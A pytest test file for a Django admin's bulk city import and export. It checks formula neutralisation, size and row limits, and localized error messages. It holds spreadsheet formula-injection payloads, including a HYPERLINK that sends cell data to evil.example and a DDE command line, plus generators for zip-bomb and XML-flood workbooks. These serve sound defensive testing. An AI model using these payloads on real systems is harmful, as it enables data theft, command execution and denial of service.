"""Bulk import and export, hardened: no export holds a live formula and no import
stores one; a hostile or oversized file is refused at once, naming the limit; a
file that cannot be read is told in the staff member's language, never with a
traceback or a server path."""

import csv
import io
import random
import time
import zipfile

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from cities import transfer_files
from cities.models import City, Exchange
from cities.transfer import CityResource
from portal.formatting.spreadsheets import is_formula
from tests.factories import make_city, make_country, make_exchange

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
]
CSV_FORMAT, XLSX_FORMAT = "0", "1"
QUICK = 3.0  # seconds: a refusal comes long before gunicorn's 30 s timeout
HEADER = "slug,name_en,name_zh_hans,country,relationship,sister_since"


@pytest.fixture
def evil(db):
    """Cities and exchanges whose texts a spreadsheet would run (stored through the
    forms or the database: the import refuses them), one with a cold winter."""
    japan = make_country("JP")
    for n, text in enumerate(INJECTIONS):
        city = make_city(slug=f"evil-{n}", name_en=text, name_zh_hans=text, country=japan)
        make_exchange(city, title_en=text, description_en=text)
    make_city(slug="harbin-like", name_en="Cold", country=japan, winter_low_c=-12)
    return japan


def export(client, model, file_format):
    resource = {"city": "cityresource", "exchange": "exchangeresource"}[model]
    page = client.get(f"/admin/cities/{model}/export/")
    fields = [name for name in page.context["form"].fields if name.startswith(f"{resource}_")]
    data = {"format": file_format, "resource": "0", **dict.fromkeys(fields, "on")}
    response = client.post(f"/admin/cities/{model}/export/", data)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    return response.content


def upload(client, content, name="cities.csv", file_format=CSV_FORMAT, model="city"):
    if isinstance(content, str):
        content = content.encode()
    started = time.perf_counter()
    response = client.post(
        f"/admin/cities/{model}/import/",
        {"resource": "0", "format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    return response, time.perf_counter() - started


def refused(response):
    """The page's error on the file field (or the import's own errors), as text."""
    page = response.content.decode()
    assert "Traceback" not in page and str(settings.BASE_DIR) not in page
    assert "site-packages" not in page and "/work/" not in page
    assert not response.context.get("confirm_form"), "nothing may be confirmed"
    form = response.context["form"]
    messages = list(form.errors.get("import_file", []))
    result = response.context.get("result")
    if result is not None:
        messages += [str(error.error) for error in result.base_errors]
    return " ".join(messages)


# Export: no live formula, numbers stay numbers


@pytest.mark.parametrize("model", ["city", "exchange"])
def test_the_xlsx_export_holds_no_formula(admin_client, evil, model):
    book = openpyxl.load_workbook(io.BytesIO(export(admin_client, model, XLSX_FORMAT)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    formulas = [
        cell.coordinate
        for cell in cells
        if cell.data_type == "f" or str(cell.value or "").startswith("=")
    ]
    assert formulas == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {f"'{text}" for text in INJECTIONS} <= texts
    if model == "city":
        header = [cell.value for cell in next(book.active.iter_rows())]
        column = header.index("winter_low_c")
        cold = next(row for row in book.active.iter_rows() if row[0].value == "harbin-like")
        assert cold[column].data_type == "n" and cold[column].value == -12


@pytest.mark.parametrize("model", ["city", "exchange"])
def test_the_csv_export_writes_a_formula_as_text(admin_client, evil, model):
    text = export(admin_client, model, CSV_FORMAT).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    column = {"city": "name_en", "exchange": "title_en"}[model]
    written = {row[column] for row in rows}
    assert {f"'{text}" for text in INJECTIONS} <= written
    assert not [value for row in rows for value in row.values() if is_formula(value)]
    if model == "city":
        cold = next(row for row in rows if row["slug"] == "harbin-like")
        assert cold["winter_low_c"] in ("-12", "-12.0"), "a negative number is no formula"


def test_an_exported_formula_imports_back_as_the_text_it_shows(admin_client, evil, superuser):
    """The export's `'=…` is text, so importing the file back stores no formula."""
    dataset = transfer_files.CSV().create_dataset(export(admin_client, "city", CSV_FORMAT))
    result = CityResource().import_data(dataset, dry_run=False, user=superuser)
    assert not result.has_errors() and not result.has_validation_errors()
    names = City.objects.values_list("name_en", flat=True)
    assert not [name for name in names if is_formula(name)]


# Import: a formula is refused in its row, in the staff member's language


def xlsx_of(rows):
    """A workbook of `rows`, every text a text cell (`=…` too, as a typed `'=…` is)."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_a_formula_in_an_imported_cell_refuses_its_row(admin_client, file_format):
    admin_client.cookies["django_language"] = "en"
    make_country("JP")
    rows = [HEADER.split(",")] + [
        [f"evil-{n}", text, "城市", "JP", "sister", "2001-01-01"]
        for n, text in enumerate(INJECTIONS)
    ]
    rows.append(["cold", "Cold", "冷", "JP", "sister", "2001-01-01"])
    if file_format == CSV_FORMAT:
        stream = io.StringIO()
        csv.writer(stream).writerows(rows)
        content, name = stream.getvalue(), "cities.csv"
    else:
        content, name = xlsx_of(rows), "cities.xlsx"
    response, _seconds = upload(admin_client, content, name, file_format)
    result = response.context["result"]
    assert result.has_validation_errors() and not response.context.get("confirm_form")
    errors = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert sorted(errors) == [1, 2, 3, 4], "each row holding a formula, and only those"
    for n, sign in enumerate(["“=”", "“+”", "“@”", "“-”"], start=1):
        (message,) = errors[n]["name_en"]
        assert f"begins with {sign}, so a spreadsheet would run it as a formula" in message
    assert not City.objects.exists()


def test_a_formula_in_a_number_column_is_refused_in_chinese(admin_client):
    admin_client.cookies["django_language"] = "zh-hans"
    make_country("JP")
    text = f"{HEADER},winter_low_c\nsapporo,Sapporo,札幌,JP,sister,1980,-2+3\n"
    response, _seconds = upload(admin_client, text)
    (row,) = response.context["result"].invalid_rows
    assert row.field_specific_errors["winter_low_c"] == [
        "“-2+3”以“-”开头，电子表格会将其作为公式执行。请删去该符号，或改用其他开头。"
    ]
    assert not City.objects.exists()


def test_text_in_a_number_column_is_not_a_number(admin_client):
    admin_client.cookies["django_language"] = "zh-hans"
    make_country("JP")
    text = f"{HEADER},winter_low_c\nsapporo,Sapporo,札幌,JP,sister,1980,about 12\n"
    response, _seconds = upload(admin_client, text)
    (row,) = response.context["result"].invalid_rows
    assert row.field_specific_errors["winter_low_c"] == [
        "“about 12”不是数字：请用阿拉伯数字填写，如1234.5或-12。"
    ]


def test_a_negative_number_imports_as_a_number(admin_client):
    admin_client.cookies["django_language"] = "en"
    make_country("JP")
    text = f"{HEADER},winter_low_c\nsapporo,Sapporo,札幌,JP,sister,1980,-12.5\n"
    response, _seconds = upload(admin_client, text)
    confirm = response.context["confirm_form"].initial
    admin_client.post("/admin/cities/city/process_import/", confirm)
    assert str(City.objects.get(slug="sapporo").winter_low_c) == "-12.5"


# Bounds: hostile and oversized files are refused at once, naming the limit

XML = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook(sheet_rows=(), shared_strings=()):
    """A minimal XLSX whose sheet and shared strings are written from the given
    chunks of XML (iterables, so that a bomb is streamed into the zip)."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="{RELS}+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{TYPE}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{TYPE}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{TYPE}.sharedStrings+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            f'{XML}<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
            '<sheet name="Cities" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'{XML}<Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
        parts = {
            "xl/worksheets/sheet1.xml": (
                f'{XML}<worksheet xmlns="{MAIN}"><sheetData>',
                sheet_rows,
                "</sheetData></worksheet>",
            ),
            "xl/sharedStrings.xml": (f'{XML}<sst xmlns="{MAIN}">', shared_strings, "</sst>"),
        }
        for name, (head, chunks, tail) in parts.items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(head.encode())
                for chunk in chunks:
                    member.write(chunk.encode())
                member.write(tail.encode())
    return stream.getvalue()


def cell_row(number, *values):
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for i, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def repeated(text, times, per_chunk=10_000):
    for _ in range(times // per_chunk):
        yield text * per_chunk


def hostile_sheet():
    """Millions of rows compressed (the probe's: 1.6 MB expanding to 475 MB)."""
    return workbook([cell_row(1, "slug"), *repeated(cell_row(2, "x" * 40), 1_000_000)])


def hostile_strings():
    """A huge shared-strings table (the probe's: 8.4 MB holding 2.16 GB)."""
    return workbook([cell_row(1, "slug")], repeated("<si><t>" + "y" * 200 + "</t></si>", 500_000))


def squeezed_sheet():
    """Within the unpacked size, but a thousand times its packed size."""
    return workbook([cell_row(1, "slug"), *repeated('<row r="2"><c r="A2"/></row>', 400_000)])


def many_tags():
    """Under the size and the ratio, but too many XML tags to parse in time."""
    rng = random.Random(23)
    rows = (f'<row r="{n}"><c r="A{n}"><v>{rng.random()}</v></c></row>' for n in range(2, 60_000))
    return workbook([cell_row(1, "slug"), *rows])


@pytest.mark.parametrize(
    ("build", "limit"),
    [
        (hostile_sheet, "the limit is 20 MB"),
        (hostile_strings, "the limit is 20 MB"),
        (squeezed_sheet, "the limit is 100 times"),
        (many_tags, "more than 150,000 XML tags"),
    ],
    ids=["sheet-bomb", "shared-strings-bomb", "ratio", "xml-tags"],
)
def test_a_hostile_workbook_is_refused_at_once(admin_client, build, limit):
    admin_client.cookies["django_language"] = "en"
    content = build()
    assert len(content) < transfer_files.MAX_FILE_BYTES
    response, seconds = upload(admin_client, content, "cities.xlsx", XLSX_FORMAT)
    assert limit in refused(response)
    assert seconds < QUICK, f"refused after {seconds:.2f} s"


ROWS = "\n".join(f"city-{n},City {n}" for n in range(transfer_files.MAX_ROWS + 1))
TOO_MANY_ROWS = f"more than {transfer_files.MAX_ROWS} rows"


@pytest.mark.parametrize(
    ("content", "name", "file_format", "limit"),
    [
        ("slug,name_en\n" + "x" * (5 * 1024 * 1024), "big.csv", CSV_FORMAT, "the limit is 5 MB"),
        ("slug,name_en\n" + ROWS, "rows.csv", CSV_FORMAT, TOO_MANY_ROWS),
        (
            xlsx_of([["slug", "name_en"], *(row.split(",") for row in ROWS.splitlines())]),
            "rows.xlsx",
            XLSX_FORMAT,
            TOO_MANY_ROWS,
        ),
        ("slug," + ",".join(f"c{n}" for n in range(100)) + "\nx\n", "wide.csv", CSV_FORMAT,
         "more than 100 columns"),
        (xlsx_of([["slug"], ["x", *[""] * 99, "far"]]), "wide.xlsx", XLSX_FORMAT,
         "more than 100 columns"),
    ],
    ids=["file-size", "csv-rows", "xlsx-rows", "csv-columns", "xlsx-columns"],
)  # fmt: skip
def test_an_oversized_file_is_refused_naming_the_limit(
    admin_client, content, name, file_format, limit
):
    admin_client.cookies["django_language"] = "en"
    response, seconds = upload(admin_client, content, name, file_format)
    assert limit in refused(response)
    assert seconds < QUICK


# Files that cannot be read: a message in the staff member's language


BAD_FILES = {
    "wrong-columns": (
        "foo,bar\n1,2\n",
        "cities.csv",
        CSV_FORMAT,
        "文件缺少列：“slug”。第一行须写明各列名称",
    ),
    "binary": (bytes(range(256)) * 8, "cities.csv", CSV_FORMAT, "文件不是UTF-8编码的文本"),
    "gbk": (
        f"{HEADER}\nshenyang,Shenyang,沈阳,CN,sister,1980\n".encode("gbk"),
        "cities.csv",
        CSV_FORMAT,
        "文件不是UTF-8编码的文本",
    ),
    "bad-zip": (b"PK\x03\x04" + b"\x00garbage" * 100, "cities.xlsx", XLSX_FORMAT, "不是XLSX工作簿"),
    "truncated-zip": (None, "cities.xlsx", XLSX_FORMAT, "不是XLSX工作簿"),
    "csv-as-xlsx": (f"{HEADER}\n", "cities.csv", XLSX_FORMAT, "请将格式选为“csv”"),
    "xlsx-as-csv": (None, "cities.xlsx", CSV_FORMAT, "请将格式选为“xlsx”"),
    "not-a-workbook": (None, "cities.xlsx", XLSX_FORMAT, "无法读取该工作簿"),
    "no-rows": (f"{HEADER}\n", "cities.csv", CSV_FORMAT, "文件中没有可导入的行"),
    "unnamed-column": ("slug,name_en\nx,X,stray\n", "cities.csv", CSV_FORMAT, "第2行的第3列"),
}


def bad_file(case):
    content, name, file_format, message = BAD_FILES[case]
    good = xlsx_of([HEADER.split(",")])
    if case == "truncated-zip":
        content = good[: len(good) // 2]
    elif case == "xlsx-as-csv":
        content = good
    elif case == "not-a-workbook":  # a valid zip, but no workbook in it
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("readme.txt", "not a workbook")
        content = stream.getvalue()
    return content, name, file_format, message


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_is_told_in_chinese_without_a_traceback(admin_client, case):
    admin_client.cookies["django_language"] = "zh-hans"
    content, name, file_format, message = bad_file(case)
    response, _seconds = upload(admin_client, content, name, file_format)
    assert message in refused(response)


def test_an_unexpected_error_is_one_sentence_and_logged(admin_client, monkeypatch, caplog):
    admin_client.cookies["django_language"] = "zh-hans"
    make_country("JP")

    def broken(*args, **kwargs):
        raise RuntimeError(f"{settings.BASE_DIR}/cities/transfer.py is broken")

    monkeypatch.setattr(CityResource, "before_save_instance", broken)
    response, _seconds = upload(admin_client, f"{HEADER}\nsapporo,Sapporo,札幌,JP,sister,1980\n")
    page = response.content.decode()
    assert "导入因意外错误而中止，未写入任何内容" in page
    assert "Traceback" not in page and str(settings.BASE_DIR) not in page
    assert "is broken" in caplog.text, "the details go to the server's log"


def test_the_exchange_import_names_its_own_missing_column(admin_client, evil):
    admin_client.cookies["django_language"] = "en"
    text = "city,date,kind,title_en\nevil-0,2020,visit,A visit\n"
    response, _seconds = upload(admin_client, text, "exchanges.csv", model="exchange")
    assert "The file has no column “id”." in refused(response)
    assert Exchange.objects.count() == len(INJECTIONS)


def test_a_file_at_the_limits_is_read():
    width, length = transfer_files.MAX_COLUMNS, transfer_files.MAX_ROWS
    rows = [["slug", *(f"c{n}" for n in range(1, width))]]
    rows += [[f"city-{n}", *range(1, width)] for n in range(length)]
    assert len(transfer_files.XLSX().create_dataset(xlsx_of(rows))) == length
    text = "\n".join(",".join(map(str, row)) for row in rows)
    dataset = transfer_files.CSV().create_dataset(text.encode())
    assert (len(dataset), dataset.width) == (length, width)
